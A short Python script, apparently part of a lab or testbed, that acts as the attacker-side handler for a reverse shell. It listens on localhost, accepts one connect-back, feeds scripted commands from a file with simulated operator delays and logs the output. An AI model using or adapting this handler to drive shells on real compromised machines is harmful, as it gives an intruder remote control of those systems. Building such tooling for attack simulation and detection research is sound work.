#!/usr/bin/python3
"""Attacker-side reverse-shell handler (meterpreter-like, NOT traced).
listener.py PORT CMDFILE LOG: accept one connect-back, send each line of
CMDFILE as a shell command, collect output, then send 'exit'."""
import socket, sys, time
port, cmdfile, log = int(sys.argv[1]), sys.argv[2], sys.argv[3]
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("127.0.0.1", port)); s.listen(1); s.settimeout(60)
c, _ = s.accept(); c.settimeout(0.3)
out = open(log, "ab")
def drain(wait):
    """read until the shell prompt ('# ' or '$ ') comes back, or `wait` seconds"""
    end = time.time() + wait; buf = b""
    while time.time() < end:
        try:
            d = c.recv(65536)
            if not d: return False
            out.write(d); out.flush(); buf += d
            if buf.rstrip(b" ").endswith((b"#", b"$")): return True
        except socket.timeout:
            pass
    return True
drain(10)
for cmd in open(cmdfile):
    time.sleep(0.3)                      # operator "typing"
    c.sendall(cmd.encode())
    if not drain(30): break
try:
    c.sendall(b"exit\n"); drain(3)
except OSError:
    pass
c.close(); s.close()
